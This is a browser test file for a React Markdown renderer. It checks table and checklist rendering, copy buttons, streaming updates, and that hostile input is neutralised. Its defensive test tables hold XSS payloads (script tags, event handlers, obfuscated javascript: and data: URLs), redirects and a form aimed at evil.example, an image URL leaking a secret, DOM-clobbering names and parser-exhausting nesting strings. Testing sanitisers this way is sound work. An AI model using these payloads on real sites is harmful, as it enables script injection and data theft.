import { Profiler, type ReactNode } from 'react';
import { expect, test } from 'vitest';
import { render } from 'vitest-browser-react';
import { page } from 'vitest/browser';
import { Markdown } from './Markdown.js';

const show = async (text: string): Promise<HTMLElement> => {
  const { container } = await render(<Markdown text={text} />);
  return container;
};

test('draws what GitHub draws', async () => {
  const root = await show('## Pages\n\n- [x] **split**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~no~~');
  await expect.element(page.getByRole('heading', { name: 'Pages' })).toBeVisible();
  await expect.element(page.getByRole('checkbox', { name: 'done' })).toBeChecked();
  await expect.element(page.getByRole('table')).toHaveTextContent('ab12');
  expect(root.querySelector('del')?.textContent).toBe('no');
});

test.each([
  ['a script', '<script>window.hacked = 1</script>'],
  ['an event handler', '<img src="x" onerror="window.hacked = 1">'],
  ['a frame', '<iframe src="javascript:window.hacked = 1"></iframe>'],
  ['a link that runs', '[click](javascript:window.hacked=1)'],
  ['a link that runs, in disguise', '[click](JaVaScRiPt&colon;window.hacked=1)'],
  ['data as a page', '[click](data:text/html,<script>window.hacked=1</script>)'],
  ['another script language', '[click](vbscript:msgbox(1)) <a href="vbscript:x">x</a>'],
  ['a picture that runs', '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>'],
  ['data as an image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)'],
  ['a reference that runs', '[click][a]\n\n[a]: javascript:window.hacked=1'],
  ['an address in angle brackets', '<javascript:window.hacked=1>'],
  ['a tag that is never closed', '<img src=x onerror="window.hacked = 1"'],
  [
    'a page that is sent away',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  ],
  ['a style', '<style>body { display: none }</style>'],
  ['a form', '<form action="https://evil.example"><input name="q"></form>'],
  ['names that shadow the page’s', '<a id="getElementById" name="forms">x</a>'],
])('%s does nothing', async (_, hostile) => {
  const root = await show(`Before.\n\n${hostile}\n\nAfter.`);
  expect(root.textContent).toContain('After.');
  expect(
    root.querySelector('script, style, iframe, form, img, svg, meta, base, [onerror], [onload], [id="getElementById"]'),
  ).toBeNull();
  for (const link of root.querySelectorAll('a')) expect(link.getAttribute('href') ?? '').not.toMatch(/script:|data:/i);
  expect('hacked' in globalThis).toBe(false);
});

test('an image is a link, so that nothing is fetched unasked', async () => {
  const root = await show('![chart](https://evil.example/?secret=1)');
  expect(root.querySelector('img')).toBeNull();
  await expect
    .element(page.getByRole('link', { name: 'chart' }))
    .toHaveAttribute('href', 'https://evil.example/?secret=1');
});

test('code can be copied', async () => {
  let copied = '';
  const { clipboard } = navigator;
  const writeText = (text: string): Promise<void> => Promise.resolve(void (copied = text));
  Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText } });
  try {
    await show('```js\nconst a = 1;\n```');
    await page.getByRole('button', { name: 'Copy' }).click();
    await expect.element(page.getByRole('button', { name: 'Copied' })).toBeVisible();
    expect(copied).toBe('const a = 1;\n');
  } finally {
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: clipboard });
  }
});

test('a page without a clipboard says that it could not copy', async () => {
  const { clipboard } = navigator;
  Object.defineProperty(navigator, 'clipboard', { configurable: true, value: undefined });
  try {
    await show('```\na\n```');
    await page.getByRole('button', { name: 'Copy' }).click();
    await expect.element(page.getByRole('button', { name: 'Could not copy' })).toBeVisible();
  } finally {
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: clipboard });
  }
});

test('what has been drawn keeps its elements while more comes in', async () => {
  let commits = 0;
  const tree = (text: string): ReactNode => (
    <Profiler id="markdown" onRender={() => commits++}>
      <Markdown text={text} />
    </Profiler>
  );
  const { container, rerender } = await render(tree('First.\n\nSec'));
  const first = container.querySelector('p');
  await rerender(tree('First.\n\nSecond.\n\nThird.'));
  expect(container.querySelector('p')).toBe(first);
  expect(container.querySelectorAll('p')).toHaveLength(3);
  expect(commits).toBe(2);
});

test.each([
  ['quotes and lists in turn', '> - '.repeat(700)],
  ['lists and quotes in turn', ' + >'.repeat(12_000)],
  ['emphasis in emphasis', `${'*a '.repeat(900)}${'b* '.repeat(900)}`],
])('%s stay text, and the page stands', async (_, hostile) => {
  const root = await show(`Before.\n\n${hostile}\n\nAfter.`);
  expect(root.querySelector('[data-forewarm=plain]')?.textContent).toContain(hostile.trim());
  expect([...root.querySelectorAll('p')].map(({ textContent }) => textContent)).toEqual(['Before.', 'After.']);
});
